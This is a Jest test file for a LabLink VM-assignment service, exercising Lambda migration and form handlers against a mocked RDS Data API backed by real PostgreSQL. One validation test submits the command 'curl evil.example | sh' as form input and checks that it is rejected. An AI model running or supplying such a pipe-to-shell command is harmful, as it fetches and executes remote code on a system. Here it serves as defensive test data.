import { ExecuteStatementCommand, RDSDataClient } from '@aws-sdk/client-rds-data';
import { GetSecretValueCommand, SecretsManagerClient } from '@aws-sdk/client-secrets-manager';
import { mockClient } from 'aws-sdk-client-mock';
import { MIGRATIONS } from '../../store/migrations';
import { recordPoll } from '../../store/vms';
import { TEST_APP_SECRET_ARN, TEST_DATA_API_TARGET, answerDataApiWithPostgres } from '../support/data-api-on-postgres';
import { TestDatabase, createTestDatabase } from '../support/database';
import { crdCommand } from '../support/fixtures';

/** An API Gateway HTTP API (payload 2.0) event, as the deployed form API receives it. */
function httpApiEvent(method: string, path: string, body?: string, headers: Record<string, string> = {}) {
  return {
    version: '2.0',
    routeKey: `${method} ${path}`,
    rawPath: path,
    rawQueryString: '',
    headers: { host: 'abc123.execute-api.eu-west-1.amazonaws.com', ...headers },
    requestContext: {
      accountId: '123456789012',
      apiId: 'abc123',
      domainName: 'abc123.execute-api.eu-west-1.amazonaws.com',
      domainPrefix: 'abc123',
      http: { method, path, protocol: 'HTTP/1.1', sourceIp: '203.0.113.7', userAgent: 'jest' },
      requestId: 'request-1',
      routeKey: `${method} ${path}`,
      stage: '$default',
      time: '26/Nov/2026:21:00:00 +0000',
      timeEpoch: 1795726800000,
    },
    body,
    isBase64Encoded: false,
  };
}

type LambdaResult = { statusCode: number; body: string; headers: Record<string, string> };

describe('Lambda handlers with the RDS Data API client mocked by aws-sdk-client-mock, answered by real PostgreSQL', () => {
  let db: TestDatabase;
  const dataApi = mockClient(RDSDataClient);
  const secretsManager = mockClient(SecretsManagerClient);
  let invoke: (event: unknown) => Promise<LambdaResult>;
  let migrationLog = '';

  beforeAll(async () => {
    db = await createTestDatabase({ migrate: false });
    // The owner's secret signs in as the server's superuser, the app secret as this database's app role.
    answerDataApiWithPostgres(dataApi, { [TEST_DATA_API_TARGET.secretArn]: db.pool, [TEST_APP_SECRET_ARN]: db.appPool });
    secretsManager
      .on(GetSecretValueCommand, { SecretId: TEST_APP_SECRET_ARN })
      .resolves({ SecretString: JSON.stringify({ username: db.appRole.name, password: db.appRole.password }) });
    // As the stack sets them: the migration function signs in as the owner and reads the app secret.
    process.env.LABLINK_DB_CLUSTER_ARN = TEST_DATA_API_TARGET.resourceArn;
    process.env.LABLINK_DB_SECRET_ARN = TEST_DATA_API_TARGET.secretArn;
    process.env.LABLINK_APP_SECRET_ARN = TEST_APP_SECRET_ARN;
    process.env.LABLINK_DB_NAME = TEST_DATA_API_TARGET.database;
    process.env.LABLINK_ADMIN_SECRET_ARN = 'arn:aws:secretsmanager:eu-west-1:123456789012:secret:AdminSecret-AbCdEf';
    const migrate = (await import('../../web/migrate-handler')).handler;
    const stdout = jest.spyOn(process.stdout, 'write').mockImplementation((line) => {
      migrationLog += String(line);
      return true;
    });
    try {
      expect(await migrate({ RequestType: 'Create' })).toEqual({
        PhysicalResourceId: 'lablink-schema',
        Data: { applied: MIGRATIONS.map((migration) => migration.version).join(',') },
      });
      expect(await migrate({ RequestType: 'Update', PhysicalResourceId: 'lablink-schema' })).toEqual({
        PhysicalResourceId: 'lablink-schema',
        Data: { applied: '' },
      });
    } finally {
      stdout.mockRestore();
    }
    // The form function signs in as the app role only.
    process.env.LABLINK_DB_SECRET_ARN = TEST_APP_SECRET_ARN;
    process.env.LABLINK_VMS_PER_ADDRESS = '2';
    process.env.LABLINK_VMS_PER_ADDRESS_WINDOW_SECONDS = '86400';
    const form = (await import('../../web/form-handler')).handler as unknown as (event: unknown, context: unknown) => Promise<LambdaResult>;
    invoke = (event) => form(event, {});
  });
  afterAll(async () => {
    dataApi.restore();
    secretsManager.restore();
    await db?.drop();
  });

  it('the migration custom resource created the schema and the app role through the Data API, as the owner', async () => {
    const { rows } = await db.pool.query('SELECT version FROM schema_migrations ORDER BY version');
    expect(rows).toEqual(MIGRATIONS.map(({ version }) => ({ version })));
    const { rows: roles } = await db.pool.query('SELECT rolcanlogin, rolsuper FROM pg_roles WHERE rolname = $1', [db.appRole.name]);
    expect(roles).toEqual([{ rolcanlogin: true, rolsuper: false }]);
    const calls = dataApi.commandCalls(ExecuteStatementCommand).map((call) => call.args[0].input);
    expect(
      calls.every((input) => input.resourceArn === TEST_DATA_API_TARGET.resourceArn && input.secretArn === TEST_DATA_API_TARGET.secretArn),
    ).toBe(true);
  });

  it('never logs the app role’s password, nor sends it to the database: only its SCRAM verifier', async () => {
    expect(migrationLog).toContain('schema.migrated');
    const statements = dataApi.commandCalls(ExecuteStatementCommand).map((call) => JSON.stringify(call.args[0].input));
    expect(statements.some((statement) => statement.includes('SCRAM-SHA-256'))).toBe(true);
    for (const text of [migrationLog, ...statements]) expect(text).not.toContain(db.appRole.password);
  });

  it('serves the form and the free count', async () => {
    await recordPoll(db.sql, 'aws-vm-1', 60);
    const page = await invoke(httpApiEvent('GET', '/'));
    expect(page.statusCode).toBe(200);
    expect(page.body).toContain('1 VM is free right now');
    const count = await invoke(httpApiEvent('GET', '/api/unassigned_vms_count'));
    expect(JSON.parse(count.body)).toEqual({ count: 1, onTheWay: 0, readyInSeconds: null, message: '1 VM is free right now.' });
    const formCalls = dataApi.commandCalls(ExecuteStatementCommand).filter((call) => call.args[0].input.secretArn === TEST_APP_SECRET_ARN);
    expect(formCalls.length).toBeGreaterThan(0);
  });

  it('assigns a VM from a form post and refuses a bad one with 400', async () => {
    const good = new URLSearchParams({ email: 'lambda@example.com', crd_command: crdCommand() }).toString();
    const response = await invoke(
      httpApiEvent('POST', '/api/request_vm', good, { 'content-type': 'application/x-www-form-urlencoded', accept: 'application/json' }),
    );
    expect(response.statusCode).toBe(200);
    expect(JSON.parse(response.body)).toMatchObject({ hostname: 'aws-vm-1', pin: expect.stringMatching(/^\d{6}$/) });

    const before = await db.dumpVms();
    const bad = new URLSearchParams({ email: 'x@example.com', crd_command: 'curl evil.example | sh' }).toString();
    const refused = await invoke(
      httpApiEvent('POST', '/api/request_vm', bad, { 'content-type': 'application/x-www-form-urlencoded', accept: 'application/json' }),
    );
    expect(refused.statusCode).toBe(400);
    expect(JSON.parse(refused.body).error).toMatch(/Debian Linux/);
    expect(await db.dumpVms()).toEqual(before);
  });

  it('counts new VMs per source address as API Gateway reports it, in the database every container shares', async () => {
    for (const name of ['aws-vm-2', 'aws-vm-3', 'aws-vm-4']) await recordPoll(db.sql, name, 60);
    const request = (email: string, sourceIp: string) => {
      const event = httpApiEvent('POST', '/api/request_vm', new URLSearchParams({ email, crd_command: crdCommand() }).toString(), {
        'content-type': 'application/x-www-form-urlencoded',
        accept: 'application/json',
      });
      return invoke({ ...event, requestContext: { ...event.requestContext, http: { ...event.requestContext.http, sourceIp } } });
    };
    // The test before took the address's first VM.
    expect((await request('second@example.com', '203.0.113.7')).statusCode).toBe(200);
    const refused = await request('third@example.com', '203.0.113.7');
    expect(refused.statusCode).toBe(429);
    expect(Number(refused.headers['retry-after'])).toBeGreaterThanOrEqual(1);
    expect(JSON.parse(refused.body).error).toMatch(/Submit again in/);
    expect((await request('third@example.com', '198.51.100.9')).statusCode).toBe(200);
  });
});
